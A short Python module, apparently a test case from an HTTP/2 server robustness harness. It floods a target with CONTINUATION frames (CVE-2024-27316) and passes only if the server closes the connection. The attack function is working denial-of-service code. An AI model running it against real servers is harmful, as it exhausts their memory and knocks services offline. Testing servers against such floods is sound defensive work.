"""CONTINUATION flood: a header block that never ends.

CVE-2024-27316 and its siblings; RFC 9113 §6.10. Half of the connections send empty CONTINUATIONs (no byte of the block ever
arrives, so no limit on its size is met), half send fields. Both must be ended; the block must not be stored without bound.
"""
from kit.frames import CONTINUATION, HEADERS, block, frame, literal, opening

LISTENER = "h2c"
GROWTH_MIB = 16


def attack(enemy):
    begun = opening() + frame(HEADERS, 0, 1, block())
    empty = frame(CONTINUATION, 0, 1) * 4096
    full = frame(CONTINUATION, 0, 1, literal(b"x-flood", b"f" * 1000) * 16) * 4
    while enemy.goes_on():
        for unit in (empty, full):
            connection = enemy.connect()
            if connection is None:
                continue
            with connection:
                if enemy.push(connection, begun):
                    while enemy.push(connection, unit):
                        enemy.note("units")


def judge(notes):
    return [] if notes.get("closed by target") else ["no connection was ended"]
